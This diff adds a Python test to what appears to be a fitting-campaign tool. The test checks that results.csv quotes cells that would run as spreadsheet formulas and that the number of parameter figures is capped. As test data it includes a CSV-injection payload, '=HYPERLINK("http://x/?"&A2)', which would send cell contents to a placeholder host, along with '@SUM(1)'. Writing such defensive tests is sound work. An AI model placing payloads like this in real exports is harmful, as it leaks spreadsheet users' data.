@@ -59,3 +59,19 @@ def test_the_page_escapes_what_the_models_wrote(tmp_path):
     ]
     assert all(img["src"].startswith("data:image/png;base64,") for img in page.elements("img"))
     assert "Content-Security-Policy" in text and page.elements("a") == []  # no report to link to
+
+
+def test_the_csv_runs_nothing_in_a_spreadsheet_and_the_figures_are_capped(tmp_path):
+    """Parameter names come from the fits' result files: a formula stays text in results.csv, and a
+    flood of names draws at most MAX_PARAMETERS figures."""
+    from bumps_mpi.front import campaign_table
+
+    formula = '=HYPERLINK("http://x/?"&A2)'
+    rows = [row(0, "a.dat", name=formula), row(1, "-b.dat", chisq=None, error="@SUM(1)")]
+    text = campaign_table.write_csv(tmp_path, rows)
+    assert "'=HYPERLINK" in text and "'-b.dat" in text and "'@SUM(1)" in text
+    assert not any(cell.startswith(("=", "@")) for line in text.splitlines() for cell in line.split(","))
+    flood = {"index": 0, "label": "x", "state": "COMPLETED", "chisq": 1.0, "error": None, "job_dir": None,
+             "parameters": {f"p{i}": {"best": 1.0, "mean": 1.0, "std": 0.1} for i in range(500)}}  # fmt: skip
+    points = campaign_report.series([flood])
+    assert len(points.parameters) == campaign_report.MAX_PARAMETERS
